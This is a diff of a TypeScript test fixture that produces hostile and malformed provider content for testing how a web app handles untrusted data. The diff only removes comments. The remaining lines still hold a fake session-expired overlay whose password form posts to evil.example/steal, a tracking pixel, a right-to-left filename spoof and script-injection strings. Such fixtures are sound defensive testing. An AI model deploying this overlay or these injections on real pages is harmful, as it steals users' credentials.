@@ -1,8 +1,4 @@
-// Modes 'hostile' and 'malformed': the demo content as a provider we did not write might send it.
-// hostile: HTML and script in every text field, dates and links in odd shapes, junk entries.
-// malformed: bodies that are not the contract's shape at all, a different kind per endpoint.
-
-/** Every script below sets this, so a test can tell that provider text ever ran. */
+/** So a test can tell that provider text ever ran. */
 export const HOSTILE_MARKER = '__providerScriptRan';
 
 const run = `window.${HOSTILE_MARKER}=1`;
@@ -17,7 +13,6 @@ const scripts = [
   '\u202egnp.exe',
 ];
 
-/** The takeover seen in the wild: a full-screen overlay with a password form posting elsewhere. */
 export const OVERLAY_TEXT = 'Your session expired. Please sign in again.';
 const overlay = `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><h2>${OVERLAY_TEXT}</h2><form action="https://evil.example/steal" method="post"><input name="user"><input type="password" name="pass"><button>Sign in</button></form></div><p>Dear parents, <b>welcome</b>.</p><img src="https://evil.example/pixel.gif" alt="">`;
 
@@ -53,7 +48,6 @@ function hostileRecord(record: unknown, i: number): unknown {
   return out;
 }
 
-/** The list with hostile text in every record, plus entries that are not records at all. */
 export function hostileList(list: readonly unknown[]): unknown[] {
   return [...list.map(hostileRecord), ...junk];
 }
@@ -72,5 +66,4 @@ const malformedBodies: { type: string; body: string }[] = [
   { type: 'application/json', body: JSON.stringify('x'.repeat(100_000)) },
 ];
 
-/** A body that is not what the contract says, chosen by the endpoint's position in the table. */
 export const malformedBody = (index: number) => malformedBodies[index % malformedBodies.length]!;
